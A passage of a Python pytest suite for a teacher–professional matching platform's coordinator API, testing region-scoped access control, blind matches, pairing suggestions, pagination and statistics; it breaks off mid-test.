"""Coordinators (and admins): participants and matches of their regions, blind matches,
pairing suggestions, statistics, CSV exports, and the admin endpoint that creates staff.

A coordinator of Rotterdam sees Rotterdam only: anything of another region answers 404, a
participant gets 403 on every coordinator route, and an admin sees every region.
"""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app import clock
from app.models import CoordinatorRegion, Match, Notification, User
from tests.conftest import API, PASSWORD, Person, login, mutual_match
from tests.utils import assert_problem, block, count_rows, relogin, swipe

C = f"{API}/coordinator"
NOTE = "Zijn rooster en het mijne passen echt niet, dat wil ik de coördinator laten weten"


# --- helpers -------------------------------------------------------------------------------


def get_ok(client: TestClient, who: Person, path: str, **params: Any) -> Any:
    response = client.get(path, params=params, headers=who.headers)
    assert response.status_code == 200, response.text
    return response.json()


def participants(client: TestClient, who: Person, **params: Any) -> list[dict[str, Any]]:
    return get_ok(client, who, f"{C}/participants", limit=100, **params)["items"]


def coordinator_matches(client: TestClient, who: Person, **params: Any) -> list[dict[str, Any]]:
    return get_ok(client, who, f"{C}/matches", limit=100, **params)["items"]


def ids(rows: list[dict[str, Any]]) -> set[int]:
    return {row["id"] for row in rows}


def blind_match(client: TestClient, who: Person, teacher_id: int, professional_id: int):
    return client.post(
        f"{C}/matches",
        json={"teacher_id": teacher_id, "professional_id": professional_id},
        headers=who.headers,
    )


def exit_match(client: TestClient, who: Person, match_id: int, **body: Any) -> dict[str, Any]:
    response = client.post(f"{API}/matches/{match_id}/exit", json=body, headers=who.headers)
    assert response.status_code == 200, response.text
    return response.json()


def notifications_of(client: TestClient, who: Person, type_: str) -> list[dict[str, Any]]:
    items = get_ok(client, who, f"{API}/notifications", limit=100)["items"]
    return [n for n in items if n["type"] == type_]


def read_csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


@pytest.fixture
def rotterdam(make_staff) -> Person:
    return make_staff("coordinator", ["rotterdam"])


@pytest.fixture
def amsterdam(make_staff) -> Person:
    return make_staff("coordinator", ["amsterdam"])


@pytest.fixture
def admin(make_staff) -> Person:
    return make_staff("admin")


# --- who may call what ---------------------------------------------------------------------

EVERY_ROUTE: list[tuple[str, str, dict[str, Any] | None]] = [
    ("get", f"{C}/participants", None),
    ("get", f"{C}/matches", None),
    ("get", f"{C}/matches/1", None),
    ("post", f"{C}/matches", {"teacher_id": 1, "professional_id": 2}),
    ("post", f"{C}/suggestions", {"region": "rotterdam"}),
    ("get", f"{C}/stats", None),
    ("get", f"{C}/export/participants.csv", None),
    ("get", f"{C}/export/matches.csv", None),
    (
        "post",
        f"{API}/admin/users",
        {
            "email": "new.coordinator@example.org",
            "password": "een-lang-wachtwoord",
            "name": "Nieuwe Coördinator",
            "role": "coordinator",
            "regions": ["rotterdam"],
        },
    ),
]


@pytest.mark.parametrize(("method", "path", "body"), EVERY_ROUTE)
def test_a_participant_gets_403_on_every_coordinator_route(
    client, db, make_participant, method, path, body
):
    teacher = make_participant("teacher")
    pro = make_participant("professional")
    before = (count_rows(db, Match), count_rows(db, User))

    response = client.request(method, path, json=body, headers=teacher.headers)

    assert_problem(response, 403)
    assert (count_rows(db, Match), count_rows(db, User)) == before
    assert pro.email not in response.text  # nothing about other participants leaks


@pytest.mark.parametrize(("method", "path", "body"), EVERY_ROUTE)
def test_no_token_gets_401_on_every_coordinator_route(client, method, path, body):
    response = client.request(method, path, json=body)

    assert_problem(response, 401)
    assert response.headers["www-authenticate"] == "Bearer"


@pytest.mark.parametrize(("method", "path", "body"), EVERY_ROUTE)
def test_a_garbage_token_gets_401(client, method, path, body):
    response = client.request(
        method, path, json=body, headers={"Authorization": "Bearer not.a.token"}
    )

    assert_problem(response, 401)


# --- participants --------------------------------------------------------------------------


def test_coordinator_lists_participants_of_their_region_with_contact(
    client, make_participant, rotterdam
):
    teacher = make_participant("teacher", name="Anouk de Vries")
    pro = make_participant("professional", name="Bram Jansen")
    make_participant("teacher", place="amsterdam", name="Amsterdamse Docent")
    make_participant("professional", profile=False, name="Nog Geen Profiel")

    rows = participants(client, rotterdam)

    assert ids(rows) == {teacher.id, pro.id}
    by_id = {row["id"]: row for row in rows}
    anouk = by_id[teacher.id]
    assert anouk["name"] == "Anouk de Vries"
    assert anouk["email"] == teacher.email
    assert anouk["side"] == "teacher"
    assert anouk["region"] == "rotterdam"
    assert anouk["status"] == "looking"
    assert anouk["complete"] is True
    assert anouk["missing"] == []
    assert anouk["contact"]["email"] == "teacher.contact@example.org"
    assert anouk["contact"]["phone"] == "+31 6 11111111"
    assert by_id[pro.id]["contact"]["email"] == "pro.contact@example.org"


def test_incomplete_profile_shows_what_is_missing(client, make_participant, rotterdam):
    half = make_participant("teacher", profile=False, name="Halve Invuller")
    patched = client.patch(
        f"{API}/me/profile",
        json={"place": "rotterdam", "headline": "Docent scheikunde"},
        headers=half.headers,
    )
    assert patched.status_code == 200, patched.text

    [row] = participants(client, rotterdam)

    assert row["id"] == half.id
    assert row["status"] == "incomplete"
    assert row["complete"] is False
    assert {"organisation", "subjects", "hours_per_month", "goals"} <= set(row["missing"])
    assert "headline" not in row["missing"] and "place" not in row["missing"]
    assert participants(client, rotterdam, status="incomplete") == [row]
    assert participants(client, rotterdam, status="looking") == []


def test_side_filter(client, make_participant, rotterdam):
    teachers = {make_participant("teacher").id for _ in range(2)}
    pros = {make_participant("professional").id for _ in range(3)}

    assert ids(participants(client, rotterdam, side="teacher")) == teachers
    assert ids(participants(client, rotterdam, side="professional")) == pros
    assert ids(participants(client, rotterdam)) == teachers | pros
    assert_problem(
        client.get(f"{C}/participants", params={"side": "coordinator"}, headers=rotterdam.headers),
        422,
    )


def test_status_filter_follows_the_match_lifecycle(client, make_participant, rotterdam):
    looking = make_participant("teacher")
    t_trial, p_trial = make_participant("teacher"), make_participant("professional")
    t_active, p_active = make_participant("teacher"), make_participant("professional")
    mutual_match(client, t_trial, p_trial)
    active = mutual_match(client, t_active, p_active)
    for who in (t_active, p_active):
        confirmed = client.post(f"{API}/matches/{active['id']}/confirm", headers=who.headers)
        assert confirmed.status_code == 200, confirmed.text

    assert ids(participants(client, rotterdam, status="looking")) == {looking.id}
    assert ids(participants(client, rotterdam, status="trial")) == {t_trial.id, p_trial.id}
    assert ids(participants(client, rotterdam, status="active")) == {t_active.id, p_active.id}
    assert participants(client, rotterdam, status="completed") == []
    assert participants(client, rotterdam, status="no_profile") == []

    # Past the end of the (3-month) match, the active pair has completed.
    clock.advance(timedelta(days=200))
    relogin(client, rotterdam)
    completed = participants(client, rotterdam, status="completed")
    assert ids(completed) == {t_active.id, p_active.id}
    assert all(row["status"] == "completed" for row in completed)
    assert participants(client, rotterdam, status="active") == []
    assert_problem(
        client.get(f"{C}/participants", params={"status": "busy"}, headers=rotterdam.headers),
        422,
    )


def test_region_filter_inside_and_outside_my_regions(
    client, make_participant, make_staff, rotterdam
):
    in_rotterdam = make_participant("teacher")
    in_delft = make_participant("professional", place="delft")  # region den-haag
    both = make_staff("coordinator", ["rotterdam", "den-haag"])

    assert ids(participants(client, both)) == {in_rotterdam.id, in_delft.id}
    assert ids(participants(client, both, region="den-haag")) == {in_delft.id}
    assert ids(participants(client, both, region="rotterdam")) == {in_rotterdam.id}
    assert ids(participants(client, rotterdam, region="rotterdam")) == {in_rotterdam.id}

    outside = client.get(
        f"{C}/participants", params={"region": "den-haag"}, headers=rotterdam.headers
    )
    assert_problem(outside, 404)
    assert in_delft.email not in outside.text
    unknown = client.get(
        f"{C}/participants", params={"region": "atlantis"}, headers=rotterdam.headers
    )
    assert_problem(unknown, 404)


def test_coordinator_of_another_region_sees_none_of_mine(
    client, make_participant, rotterdam, amsterdam
):
    make_participant("teacher")
    make_participant("professional")

    assert participants(client, amsterdam) == []
    assert_problem(
        client.get(f"{C}/participants", params={"region": "rotterdam"}, headers=amsterdam.headers),
        404,
    )


def test_admin_sees_every_region_and_participants_without_profile(client, make_participant, admin):
    rotterdammer = make_participant("teacher")
    amsterdammer = make_participant("professional", place="amsterdam")
    newcomer = make_participant("teacher", profile=False)

    rows = {row["id"]: row for row in participants(client, admin)}

    assert set(rows) == {rotterdammer.id, amsterdammer.id, newcomer.id}
    assert rows[newcomer.id]["status"] == "no_profile"
    assert rows[newcomer.id]["missing"] == ["profile"]
    assert rows[newcomer.id]["contact"] is None
    assert rows[amsterdammer.id]["region"] == "amsterdam"
    assert ids(participants(client, admin, region="amsterdam")) == {amsterdammer.id}
    assert ids(participants(client, admin, status="no_profile")) == {newcomer.id}


def test_participants_pagination_with_cursor(client, make_participant, rotterdam):
    made = [make_participant("teacher" if i % 2 else "professional").id for i in range(5)]
    make_participant("teacher", place="amsterdam")

    seen: list[int] = []
    cursor = None
    pages = 0
    while True:
        params: dict[str, Any] = {"limit": 2}
        if cursor:
            params["cursor"] = cursor
        page = get_ok(client, rotterdam, f"{C}/participants", **params)
        pages += 1
        assert len(page["items"]) <= 2
        seen += [row["id"] for row in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
        assert pages < 10

    assert pages == 3
    assert seen == sorted(made)  # every one once, none from Amsterdam
    assert_problem(
        client.get(f"{C}/participants", params={"cursor": "%%%"}, headers=rotterdam.headers),
        422,
    )
    assert_problem(
        client.get(f"{C}/participants", params={"limit": 101}, headers=rotterdam.headers), 422
    )


def test_status_filtered_pages_are_full_and_complete(client, make_participant, rotterdam):
    """The status filter works over pages: a page is full while more rows match."""
    lookers = []
    for _ in range(3):
        t, p = make_participant("teacher"), make_participant("professional")
        mutual_match(client, t, p)
        lookers.append(make_participant("teacher").id)

    first = get_ok(client, rotterdam, f"{C}/participants", status="looking", limit=2)
    assert [row["id"] for row in first["items"]] == lookers[:2]
    assert first["next_cursor"] is not None
    second = get_ok(
        client,
        rotterdam,
        f"{C}/participants",
        status="looking",
        limit=2,
        cursor=first["next_cursor"],
    )
    assert [row["id"] for row in second["items"]] == lookers[2:]
    assert second["next_cursor"] is None


# --- matches -------------------------------------------------------------------------------


def test_coordinator_sees_matches_of_their_region_with_partners(
    client, make_participant, rotterdam, amsterdam, admin
):
    teacher = make_participant("teacher", name="Anouk de Vries")
    pro = make_participant("professional", name="Bram Jansen")
    match = mutual_match(client, teacher, pro)

    [row] = coordinator_matches(client, rotterdam)
    assert row["id"] == match["id"]
    assert row["status"] == "trial"
    assert row["origin"] == "mutual_like"
    assert row["teacher"]["id"] == teacher.id and row["teacher"]["name"] == "Anouk de Vries"
    assert row["professional"]["id"] == pro.id and row["professional"]["name"] == "Bram Jansen"
    assert row["teacher"]["contact"]["email"] == "teacher.contact@example.org"
    assert row["professional"]["email"] == pro.email
    assert row["at_risk"] is False
    assert row["exit_reason"] is None and row["exit_note"] is None

    single = get_ok(client, rotterdam, f"{C}/matches/{match['id']}")
    assert single == row
    assert ids(coordinator_matches(client, admin)) == {match["id"]}
    assert get_ok(client, admin, f"{C}/matches/{match['id']}")["id"] == match["id"]

    # Another region's coordinator: not in the list, and the match "does not exist".
    assert coordinator_matches(client, amsterdam) == []
    hidden = client.get(f"{C}/matches/{match['id']}", headers=amsterdam.headers)
    assert_problem(hidden, 404)
    assert "Bram" not in hidden.text
    assert_problem(
        client.get(f"{C}/matches", params={"region": "rotterdam"}, headers=amsterdam.headers),
        404,
    )
    assert_problem(client.get(f"{C}/matches/999999", headers=rotterdam.headers), 404)


def test_exit_reason_and_note_are_visible_to_the_coordinator_only(
    client, make_participant, rotterdam
):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    match = mutual_match(client, teacher, pro)

    exit_match(client, teacher, match["id"], reason="no_time", note=NOTE)

    [row] = coordinator_matches(client, rotterdam)
    assert row["status"] == "ended"
    assert row["exit_reason"] == "no_time"
    assert row["exit_note"] == NOTE
    assert row["ended_by"] == "teacher"
    assert row["ended_at"] is not None
    assert get_ok(client, rotterdam, f"{C}/matches/{match['id']}")["exit_note"] == NOTE

    # The partner never sees the reason or the note.
    partner_view = client.get(f"{API}/matches/{match['id']}", headers=pro.headers)
    assert partner_view.status_code == 200
    assert NOTE not in partner_view.text and "no_time" not in partner_view.text
    partner_notes = client.get(f"{API}/notifications", headers=pro.headers)
    assert NOTE not in partner_notes.text and "no_time" not in partner_notes.text


def test_overdue_trial_is_at_risk(client, make_participant, rotterdam):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    match = mutual_match(client, teacher, pro)
    assert coordinator_matches(client, rotterdam, at_risk=True) == []

    clock.advance(timedelta(days=31))
    relogin(client, rotterdam)

    [row] = coordinator_matches(client, rotterdam)
    assert row["id"] == match["id"]
    assert row["status"] == "trial"
    assert row["at_risk"] is True
    assert row["trial_overdue"] is True
    assert ids(coordinator_matches(client, rotterdam, at_risk=True)) == {match["id"]}
    assert coordinator_matches(client, rotterdam, at_risk=False) == []


def test_confirmed_match_is_not_overdue_after_the_trial(client, make_participant, rotterdam):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    match = mutual_match(client, teacher, pro)
    for who in (teacher, pro):
        assert client.post(f"{API}/matches/{match['id']}/confirm", headers=who.headers).is_success
    [fresh] = coordinator_matches(client, rotterdam)
    assert fresh["status"] == "active" and fresh["at_risk"] is False

    clock.advance(timedelta(days=31))
    relogin(client, rotterdam)

    [row] = coordinator_matches(client, rotterdam)
    assert row["status"] == "active"
    assert row["trial_overdue"] is False
    assert row["teacher_confirmed"] is True and row["professional_confirmed"] is True
    # at_risk also covers "behind on hours"; whatever it says, the filter agrees with it.
    flagged = ids(coordinator_matches(client, rotterdam, at_risk=True))
    unflagged = ids(coordinator_matches(client, rotterdam, at_risk=False))
    assert (match["id"] in flagged) is row["at_risk"]
    assert (match["id"] in unflagged) is not row["at_risk"]


def test_match_status_and_origin_filters(client, make_participant, rotterdam):
    t1, p1 = make_participant("teacher"), make_participant("professional")
    t2, p2 = make_participant("teacher"), make_participant("professional")
    t3, p3 = make_participant("teacher"), make_participant("professional")
    liked = mutual_match(client, t1, p1)
    blind = blind_match(client, rotterdam, t2.id, p2.id)
    assert blind.status_code == 201, blind.text
    ended = mutual_match(client, t3, p3)
    exit_match(client, p3, ended["id"])

    by_origin = {
        origin: ids(coordinator_matches(client, rotterdam, origin=origin))
        for origin in ("mutual_like", "coordinator")
    }
    assert by_origin == {
        "mutual_like": {liked["id"], ended["id"]},
        "coordinator": {blind.json()["id"]},
    }
    assert ids(coordinator_matches(client, rotterdam, status="trial")) == {
        liked["id"],
        blind.json()["id"],
    }
    assert ids(coordinator_matches(client, rotterdam, status="ended")) == {ended["id"]}
    assert coordinator_matches(client, rotterdam, status="active") == []
    assert ids(coordinator_matches(client, rotterdam, status="trial", origin="coordinator")) == {
        blind.json()["id"]
    }
    # Newest first.
    assert [m["id"] for m in coordinator_matches(client, rotterdam)] == sorted(
        [liked["id"], blind.json()["id"], ended["id"]], reverse=True
    )
    assert_problem(
        client.get(f"{C}/matches", params={"origin": "magic"}, headers=rotterdam.headers), 422
    )


def test_matches_pagination_with_cursor(client, make_participant, rotterdam):
    made = []
    for _ in range(3):
        made.append(
            mutual_match(client, make_participant("teacher"), make_participant("professional"))[
                "id"
            ]
        )

    first = get_ok(client, rotterdam, f"{C}/matches", limit=2)
    second = get_ok(client, rotterdam, f"{C}/matches", limit=2, cursor=first["next_cursor"])

    assert [m["id"] for m in first["items"] + second["items"]] == sorted(made, reverse=True)
    assert second["next_cursor"] is None


def test_cross_region_match_is_visible_to_both_regions(
    client, make_participant, rotterdam, amsterdam, make_staff
):
    teacher = make_participant("teacher")
    pro = make_participant("professional", place="amsterdam", max_travel_km=300)
    admin = make_staff("admin")
    made = blind_match(client, admin, teacher.id, pro.id)
    assert made.status_code == 201, made.text

    for coordinator in (rotterdam, amsterdam):
        assert ids(coordinator_matches(client, coordinator)) == {made.json()["id"]}
    utrecht = make_staff("coordinator", ["utrecht"])
    assert coordinator_matches(client, utrecht) == []
    assert_problem(client.get(f"{C}/matches/{made.json()['id']}", headers=utrecht.headers), 404)


# --- blind match ---------------------------------------------------------------------------


def test_blind_match_starts_a_trial_and_tells_both(client, db, make_participant, rotterdam):
    teacher = make_participant("teacher", name="Anouk de Vries")
    pro = make_participant("professional", name="Bram Jansen")

    response = blind_match(client, rotterdam, teacher.id, pro.id)

    assert response.status_code == 201, response.text
    made = response.json()
    assert made["status"] == "trial"
    assert made["origin"] == "coordinator"
    assert made["teacher"]["id"] == teacher.id and made["professional"]["id"] == pro.id
    trial_days = (
        datetime.fromisoformat(made["trial_ends_at"]) - datetime.fromisoformat(made["created_at"])
    ).days
    assert trial_days == 30

    for me, partner in ((teacher, pro), (pro, teacher)):
        [mine] = get_ok(client, me, f"{API}/matches")["items"]
        assert mine["id"] == made["id"]
        assert mine["origin"] == "coordinator"
        assert mine["status"] == "trial"
        assert mine["partner"]["id"] == partner.id
        [note] = notifications_of(client, me, "coordinator_match")
        assert note["data"]["match_id"] == made["id"]
        assert notifications_of(client, me, "match_created") == []

    assert ids(coordinator_matches(client, rotterdam, origin="coordinator")) == {made["id"]}
    assert count_rows(db, Match) == 1


@pytest.fixture
def nothing_stored(db):
    """Snapshot matches and notifications; call the result to assert nothing changed."""
    state: dict[str, tuple[int, int]] = {}

    def snapshot() -> tuple[int, int]:
        return count_rows(db, Match), count_rows(db, Notification)

    def check() -> None:
        assert snapshot() == state["before"]

    def start() -> None:
        state["before"] = snapshot()

    return start, check


def test_blind_match_refused_when_matched_before(
    client, make_participant, rotterdam, nothing_stored
):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    match = mutual_match(client, teacher, pro)
    exit_match(client, teacher, match["id"], reason="no_click")
    start, unchanged = nothing_stored
    start()

    response = blind_match(client, rotterdam, teacher.id, pro.id)

    assert_problem(response, 409)
    unchanged()
    assert ids(coordinator_matches(client, rotterdam)) == {match["id"]}


@pytest.mark.parametrize("blocker", ["teacher", "professional"])
def test_blind_match_refused_when_blocked(
    client, make_participant, rotterdam, nothing_stored, blocker
):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    blocking, blocked = (teacher, pro) if blocker == "teacher" else (pro, teacher)
    block(client, blocking, blocked)
    start, unchanged = nothing_stored
    start()

    response = blind_match(client, rotterdam, teacher.id, pro.id)

    assert_problem(response, 409)
    unchanged()
    assert get_ok(client, teacher, f"{API}/matches")["items"] == []


@pytest.mark.parametrize("unverified", ["teacher", "professional"])
def test_blind_match_refused_until_both_confirmed_their_address(
    client, make_participant, rotterdam, nothing_stored, unverified
):
    teacher = make_participant("teacher", verified=unverified != "teacher")
    pro = make_participant("professional", verified=unverified != "professional")
    start, unchanged = nothing_stored
    start()

    response = blind_match(client, rotterdam, teacher.id, pro.id)

    assert_problem(response, 409)
    assert response.json()["code"] == "participant_not_verified"
    unchanged()
    assert coordinator_matches(client, rotterdam) == []


def test_suggestions_leave_out_who_has_not_confirmed_their_address(
    client, make_participant, rotterdam
):
    teacher = make_participant("teacher")
    verified = make_participant("professional")
    unverified = make_participant("professional", verified=False)
    body = suggest(client, rotterdam, "rotterdam").json()
    listed = {pair["professional"]["id"] for pair in body["pairs"]}
    listed |= set(body["unpaired_professional_ids"])
    assert listed == {verified.id} and unverified.id not in listed
    assert [pair["teacher"]["id"] for pair in body["pairs"]] == [teacher.id]


@pytest.mark.parametrize("busy", ["teacher", "professional"])
def test_blind_match_refused_at_the_ongoing_match_limit(
    client, make_participant, rotterdam, nothing_stored, busy
):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    if busy == "teacher":
        mutual_match(client, teacher, make_participant("professional"))
    else:
        mutual_match(client, make_participant("teacher"), pro)
    start, unchanged = nothing_stored
    start()

    response = blind_match(client, rotterdam, teacher.id, pro.id)

    assert_problem(response, 409)
    unchanged()
    assert notifications_of(client, teacher, "coordinator_match") == []
    assert notifications_of(client, pro, "coordinator_match") == []


def test_blind_match_with_sides_swapped_is_422(client, make_participant, rotterdam, nothing_stored):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    other_teacher = make_participant("teacher")
    start, unchanged = nothing_stored
    start()

    swapped = blind_match(client, rotterdam, pro.id, teacher.id)
    two_teachers = blind_match(client, rotterdam, teacher.id, other_teacher.id)

    assert_problem(swapped, 422)
    assert_problem(two_teachers, 422)
    assert swapped.json()["errors"]
    unchanged()


def test_blind_match_with_bad_body_is_422(client, rotterdam, nothing_stored):
    start, unchanged = nothing_stored
    start()
    for body in (
        {},
        {"teacher_id": 1},
        {"teacher_id": "x", "professional_id": 2},
        {"teacher_id": 1, "professional_id": 2, "extra": True},
    ):
        assert_problem(client.post(f"{C}/matches", json=body, headers=rotterdam.headers), 422)
    unchanged()


def test_blind_match_outside_my_regions_is_404(
    client, make_participant, rotterdam, amsterdam, make_staff, nothing_stored
):
    teacher = make_participant("teacher")
    pro = make_participant("professional")
    far_pro = make_participant("professional", place="amsterdam")
    start, unchanged = nothing_stored
    start()

    # Both in Rotterdam, asked by Amsterdam's coordinator.
    assert_problem(blind_match(client, amsterdam, teacher.id, pro.id), 404)
    # One of them outside Rotterdam, asked by Rotterdam's coordinator.
    assert_problem(blind_match(client, rotterdam, teacher.id, far_pro.id), 404)
    # Nobody with that id, or not a participant at all.
    assert_problem(blind_match(client, rotterdam, teacher.id, 999999), 404)
    assert_problem(blind_match(client, rotterdam, teacher.id, amsterdam.id), 404)
    # No profile yet: no region, so in nobody's regions.
    bare = make_participant("professional", profile=False)
    start()
    assert_problem(blind_match(client, rotterdam, teacher.id, bare.id), 404)
    unchanged()


def test_admin_may_blind_match_anywhere(client, make_participant, admin):
    teacher = make_participant("teacher", place="utrecht")
    pro = make_participant("professional", place="amersfoort")

    response = blind_match(client, admin, teacher.id, pro.id)

    assert response.status_code == 201, response.text
    assert response.json()["origin"] == "coordinator"
    assert len(notifications_of(client, pro, "coordinator_match")) == 1


# --- suggestions ---------------------------------------------------------------------------


def suggest(client: TestClient, who: Person, region: str):
    return client.post(f"{C}/suggestions", json={"region": region}, headers=who.headers)


def three_by_three(make_participant) -> tuple[list[Person], list[Person]]:
    teachers = [
        make_participant("teacher", subjects=subjects)
        for subjects in (["natuurkunde"], ["scheikunde"], ["wiskunde"])
    ]
    pros = [make_participant("professional") for _ in range(3)]
    return teachers, pros


def assert_valid_pairing(body: dict[str, Any], teachers: list[Person], pros: list[Person]):
    pairs = body["pairs"]
    teacher_ids = [pair["teacher"]["id"] for pair in pairs]
    pro_ids = [pair["professional"]["id"] for pair in pairs]
    assert len(set(teacher_ids)) == len(teacher_ids)  # each person at most once
    assert len(set(pro_ids)) == len(pro_ids)
    assert set(teacher_ids) <= {t.id for t in teachers}
    assert set(pro_ids) <= {p.id for p in pros}
    for pair in pairs:
        assert 0 <= pair["score"] <= 1
        assert pair["reasons"] and all(isinstance(r, str) and r for r in pair["reasons"])
        assert set(pair["breakdown"]) >= {"subject", "motivation", "region", "availability"}
        assert all(0 <= value <= 1 for value in pair["breakdown"].values())
        assert pair["teacher"]["name"] and pair["professional"]["name"]
    return {(pair["teacher"]["id"], pair["professional"]["id"]) for pair in pairs}


def test_suggestions_pair_everyone_once_and_apply_nothing(
    client, db, make_participant, rotterdam, nothing_stored
):
    teachers, pros = three_by_three(make_participant)
    make_participant("teacher", place="amsterdam")  # another region: never suggested
    start, unchanged = nothing_stored
    start()

    response = suggest(client, rotterdam, "rotterdam")

    assert response.status_code == 200, response.text
    body = response.json()
    assert body["region"] == "rotterdam"
    assert len(body["pairs"]) == 3
    assert_valid_pairing(body, teachers, pros)
    assert body["unpaired_teacher_ids"] == [] and body["unpaired_professional_ids"] == []
    scores = [pair["score"] for pair in body["pairs"]]
    assert scores == sorted(scores, reverse=True)

    # Nothing was applied: no matches, no notifications.
    unchanged()
    assert coordinator_matches(client, rotterdam) == []
    for person in teachers + pros:
        assert get_ok(client, person, f"{API}/matches")["items"] == []
    # Asking twice gives the same answer.
    assert suggest(client, rotterdam, "rotterdam").json() == body


def test_suggestions_skip_blocked_and_earlier_pairs_and_busy_people(
    client, make_participant, rotterdam
):
    teachers, pros = three_by_three(make_participant)
    block(client, teachers[0], pros[0])
    earlier = mutual_match(client, teachers[1], pros[1])
    exit_match(client, teachers[1], earlier["id"])
    busy_t, busy_p = make_participant("teacher"), make_participant("professional")
    mutual_match(client, busy_t, busy_p)

    response = suggest(client, rotterdam, "rotterdam")

    assert response.status_code == 200, response.text
    body = response.json()
    pairs = assert_valid_pairing(body, teachers, pros)
    assert len(pairs) == 3
    assert (teachers[0].id, pros[0].id) not in pairs
    assert (teachers[1].id, pros[1].id) not in pairs
    # People in an ongoing match are not "unmatched": neither paired nor left over.
    assert busy_t.id not in {p["teacher"]["id"] for p in body["pairs"]}
    assert busy_p.id not in {p["professional"]["id"] for p in body["pairs"]}
    assert busy_t.id not in body["unpaired_teacher_ids"]
    assert busy_p.id not in body["unpaired_professional_ids"]


def test_suggestions_with_more_teachers_leave_some_unpaired(client, make_participant, rotterdam):
    teachers = [make_participant("teacher") for _ in range(3)]
    pros = [make_participant("professional")]

    body = suggest(client, rotterdam, "rotterdam").json()

    assert len(body["pairs"]) == 1
    assert_valid_pairing(body, teachers, pros)
    assert len(body["unpaired_teacher_ids"]) == 2
    assert set(body["unpaired_teacher_ids"]) < {t.id for t in teachers}


def test_suggestions_for_an_empty_region_are_empty(client, amsterdam, make_participant):
    make_participant("teacher")  # Rotterdam
    response = suggest(client, amsterdam, "amsterdam")
    assert response.status_code == 200, response.text
    assert response.json()["pairs"] == []


def test_suggestions_outside_my_regions_or_unknown(client, make_participant, rotterdam, admin):
    three_by_three(make_participant)

    outside = suggest(client, rotterdam, "amsterdam")
    assert_problem(outside, 404)
    unknown = suggest(client, rotterdam, "atlantis")
    assert unknown.status_code in (404, 422), unknown.text
    assert_problem(unknown, unknown.status_code)
    assert_problem(client.post(f"{C}/suggestions", json={}, headers=rotterdam.headers), 422)
    # The admin may ask for any region.
    assert len(suggest(client, admin, "rotterdam").json()["pairs"]) == 3


def test_another_regions_coordinator_cannot_ask_for_my_region(client, make_participant, amsterdam):
    three_by_three(make_participant)
    response = suggest(client, amsterdam, "rotterdam")
    assert_problem(response, 404)
    assert "Teacher" not in response.text


# --- statistics ----------------------------------------------------------------------------


def stats(client: TestClient, who: Person, **params: Any) -> dict[str, Any]:
    return get_ok(client, who, f"{C}/stats", **params)


def test_stats_count_likes_matches_and_exits(client, make_participant, rotterdam, admin):
    t1, t2 = make_participant("teacher"), make_participant("teacher")
    p1, p2 = make_participant("professional"), make_participant("professional")
    liked = mutual_match(client, t1, p1)  # 2 likes, 1 mutual match
    swipe(client, t2, p1)  # a third like
    swipe(client, t2, p2, "pass")
    blind = blind_match(client, rotterdam, t2.id, p2.id)
    assert blind.status_code == 201, blind.text
    exit_match(client, t1, liked["id"], reason="no_time", note=NOTE)
    exit_match(client, p2, blind.json()["id"])
    # Another region: not in Rotterdam's figures.
    far_t = make_participant("teacher", place="amsterdam")
    far_p = make_participant("professional", place="amsterdam")
    mutual_match(client, far_t, far_p)

    figures = stats(client, rotterdam)

    assert figures["participants"] == {"teacher": 2, "professional": 2}
    assert figures["complete_profiles"] == {"teacher": 2, "professional": 2}
    assert figures["likes"] == 3
    assert figures["passes"] == 1
    assert figures["mutual_matches"] == 1
    assert figures["coordinator_matches"] == 1
    assert figures["exits_by_reason"] == {"no_time": 1, "none_given": 1}
    assert figures["matches_by_status"]["ended"] == 2
    assert figures["trial_to_active_rate"] == 0
    assert stats(client, rotterdam, region="rotterdam")["likes"] == 3

    everywhere = stats(client, admin)
    assert everywhere["participants"] == {"teacher": 3, "professional": 3}
    assert everywhere["likes"] == 5
    assert everywhere["mutual_matches"] == 2
    amsterdam_only = stats(client, admin, region="amsterdam")
    assert amsterdam_only["likes"] == 2 and amsterdam_only["exits_by_reason"] == {}


def test_stats_trial_to_active_rate(client, make_participant, rotterdam):
    t1, p1 = make_participant("teacher"), make_participant("professional")
    t2, p2 = make_participant("teacher"), make_participant("professional")
    kept = mutual_match(client, t1, p1)
    for who in (t1, p1):
        assert client.post(f"{API}/matches/{kept['id']}/confirm", headers=who.headers).is_success
    left = mutual_match(client, t2, p2)
    exit_match(client, t2, left["id"])

    assert stats(client, rotterdam)["trial_to_active_rate"] == 0.5


def test_stats_for_a_period(client, make_participant, rotterdam):
    teacher, pro = make_participant("teacher"), make_participant("professional")
    mutual_match(client, teacher, pro)
    now = clock.now()

    last_year = stats(
        client,
        rotterdam,
        **{
            "from": (now - timedelta(days=400)).isoformat(),
            "to": (now - timedelta(days=1)).isoformat(),
        },
    )
    assert last_year["likes"] == 0 and last_year["mutual_matches"] == 0

    today = stats(
        client,
        rotterdam,
        **{
            "from": (now - timedelta(hours=1)).isoformat(),
            "to": (now + timedelta(hours=1)).isoformat(),
        },
    )
    assert today["likes"] == 2 and today["mutual_matches"] == 1


def test_stats_period_respects_the_timezone_offset(client, make_participant, rotterdam):
    """`from`/`to` written in Dutch summer time mean the same moment as in UTC."""
    teacher, pro = make_participant("teacher"), make_participant("professional")
    mutual_match(client, teacher, pro)
    cest = timezone(timedelta(hours=2))
    now = clock.now()

    since_half_an_hour = stats(
        client, rotterdam, **{"from": (now - timedelta(minutes=30)).astimezone(cest).isoformat()}
    )
    assert since_half_an_hour["likes"] == 2
    assert since_half_an_hour["mutual_matches"] == 1

    until_half_an_hour_ago = stats(
        client, rotterdam, to=(now - timedelta(minutes=30)).astimezone(cest).isoformat()
    )
    assert until_half_an_hour_ago["likes"] == 0
    assert until_half_an_hour_ago["mutual_matches"] == 0


def test_stats_outside_my_regions_is_404(client, rotterdam):
    assert_problem(
        client.get(f"{C}/stats", params={"region": "amsterdam"}, headers=rotterdam.headers), 404
    )
    assert_problem(
